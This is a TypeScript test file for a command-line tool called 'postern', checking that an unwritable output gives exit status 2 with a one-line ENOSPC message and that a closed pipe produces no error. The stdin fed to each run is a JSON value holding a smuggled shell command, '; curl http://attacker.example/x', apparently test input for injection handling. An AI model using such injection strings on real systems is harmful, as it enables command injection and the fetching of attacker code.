import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';

const program = fileURLToPath(new URL('../bin/postern.mjs', import.meta.url));
const inShell = (line: string) =>
  spawnSync('sh', ['-c', line], {
    input: '{"a":"; curl http://attacker.example/x"}\n',
    encoding: 'utf8',
    env: { ...process.env, POSTERN: program, NODE: process.execPath },
  });

test('output that cannot be written is one line and 2', { skip: existsSync('/dev/full') ? false : 'there is no /dev/full' }, () => {
  const { status, stderr } = inShell('"$NODE" "$POSTERN" inspect > /dev/full');
  assert.equal(status, 2);
  assert.equal(stderr, 'postern: standard output: cannot be written (ENOSPC)\n');
});

test('a reader that had enough is no error', { skip: process.platform === 'win32' ? 'there is no sh' : false }, () => {
  const { stderr } = inShell('"$NODE" "$POSTERN" inspect | true');
  assert.equal(stderr, '');
});
